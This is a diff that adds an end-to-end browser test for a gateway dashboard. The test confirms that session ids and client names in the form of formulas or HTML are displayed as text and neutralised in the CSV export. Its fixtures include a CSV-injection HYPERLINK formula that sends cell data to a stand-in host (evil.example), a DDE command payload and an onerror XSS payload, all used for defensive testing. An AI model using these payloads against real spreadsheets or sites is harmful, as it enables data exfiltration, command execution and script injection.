@@ -1,6 +1,7 @@
 // The dashboard end to end, in headless Chromium against the real `svc` binary: sign in, create a key and see
-// its secret once, see a request's spend appear on Overview and Spend without a reload, revoke the key, send
-// a dead event again; then a screenshot of every page (desktop and phone) in target/ui-artifacts/.
+// its secret once, see a request's spend appear on Overview and Spend without a reload, export session ids and
+// client names chosen to look like spreadsheet formulas (and HTML) and find them written as text, revoke the
+// key, send a dead event again; then a screenshot of every page (desktop and phone) in target/ui-artifacts/.
 
 import { describe, it, before, after } from 'node:test';
 import assert from 'node:assert/strict';
@@ -8,6 +9,7 @@ import { createServer } from 'node:http';
 import { mkdirSync } from 'node:fs';
 import { join } from 'node:path';
 import { MASTER, ROOT, startGateway, freePort, admin, chat, launch } from './lib/gateway.js';
+import { parseCsv, DANGEROUS_START } from './lib/csv.js';
 
 const ARTIFACTS = join(ROOT, 'target', 'ui-artifacts');
 const PAGES = ['overview', 'keys', 'spend', 'requests', 'events', 'models', 'fleet'];
@@ -138,6 +140,75 @@ describe('dashboard', { timeout: 180000 }, () => {
     let text = '';
     for await (const chunk of file) text += chunk;
     assert.match(text, /^group,requests,prompt_tokens,completion_tokens,spend\r\nplanner,2,/);
+  });
+
+  it('exports client-chosen session ids and client names as text a spreadsheet does not run', async () => {
+    const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+    const sessions = [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', '-2+3', '<img src=x onerror="window.__xss=1">'];
+    for (const session of sessions) {
+      const resp = await chat(gw.url, secret, undefined, undefined, { 'x-session-id': session });
+      assert.equal(resp.status, 200, await resp.text());
+    }
+    const ua = await chat(gw.url, secret, undefined, undefined, { 'User-Agent': '@evil-client/1.0 (=cmd)' });
+    assert.equal(ua.status, 200, await ua.text());
+
+    const exported = async () => {
+      const download = page.waitForEvent('download');
+      await page.click('#export-csv');
+      const got = await download;
+      let text = '';
+      for await (const chunk of await got.createReadStream()) text += chunk;
+      return { name: got.suggestedFilename(), text, rows: parseCsv(text) };
+    };
+    const noDangerousCell = (rows) => {
+      for (const row of rows) {
+        for (const cell of row) assert.doesNotMatch(cell, DANGEROUS_START, `a cell starts like a formula: ${JSON.stringify(row)}`);
+      }
+    };
+
+    await go('spend');
+    await page.selectOption('#group-by', 'session');
+    // The table shows each session id as text (no element made of it, nothing run).
+    await page.waitForFunction((ids) => {
+      const shown = [...document.querySelectorAll('#content table span.mono')].map((s) => s.textContent);
+      return ids.every((id) => shown.includes(id));
+    }, sessions, WAIT);
+    const cells = await page.evaluate((ids) => [...document.querySelectorAll('#content table span.mono')]
+      .filter((s) => ids.includes(s.textContent))
+      .map((s) => ({ text: s.textContent, children: s.childElementCount })), sessions);
+    assert.equal(cells.length, sessions.length);
+    assert.ok(cells.every((c) => c.children === 0), JSON.stringify(cells));
+    assert.equal(await page.locator('#content img').count(), 0, 'no <img> made of a session id');
+    assert.equal(await page.evaluate(() => window.__xss), undefined, 'no handler of a session id ran');
+
+    const bySession = await exported();
+    assert.equal(bySession.name, 'svc-spend-by-session.csv');
+    assert.deepEqual(bySession.rows[0], ['group', 'requests', 'prompt_tokens', 'completion_tokens', 'spend']);
+    assert.ok(bySession.text.includes('\r\n"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")",1,'), bySession.text);
+    const byLabel = new Map(bySession.rows.slice(1).map((r) => [r[0], r]));
+    assert.ok(byLabel.has(`'${HYPERLINK}`), bySession.text);
+    assert.ok(byLabel.has("'@SUM(1+1)*cmd|' /C calc'!A0"), bySession.text);
+    assert.ok(byLabel.has("'+1+1"), bySession.text);
+    assert.ok(byLabel.has("'-2+3"), bySession.text);
+    assert.ok(byLabel.has('<img src=x onerror="window.__xss=1">'), bySession.text);
+    for (const row of bySession.rows.slice(1)) {
+      assert.equal(row.length, 5, JSON.stringify(row));
+      for (const n of row.slice(1)) assert.match(n, /^\d+(\.\d+)?(e-\d+)?$/, `numbers stay numbers: ${JSON.stringify(row)}`);
+    }
+    noDangerousCell(bySession.rows);
+
+    await page.selectOption('#group-by', 'client');
+    await page.waitForFunction(() => [...document.querySelectorAll('#content table td')].some((td) => td.textContent === '@evil-client'), null, WAIT);
+    const byClient = await exported();
+    assert.equal(byClient.name, 'svc-spend-by-client.csv');
+    assert.ok(byClient.rows.some((r) => r[0] === "'@evil-client"), byClient.text);
+    noDangerousCell(byClient.rows);
+
+    // The Requests page shows the session ids as text too.
+    await go('requests');
+    await page.waitForFunction((id) => [...document.querySelectorAll('#content table .sub')].some((s) => s.textContent.includes(id)), HYPERLINK, WAIT);
+    assert.equal(await page.locator('#content img').count(), 0);
+    assert.equal(await page.evaluate(() => window.__xss), undefined);
   });
 
   it('shows a key’s own team, read-only, to someone signed in with that key', async () => {
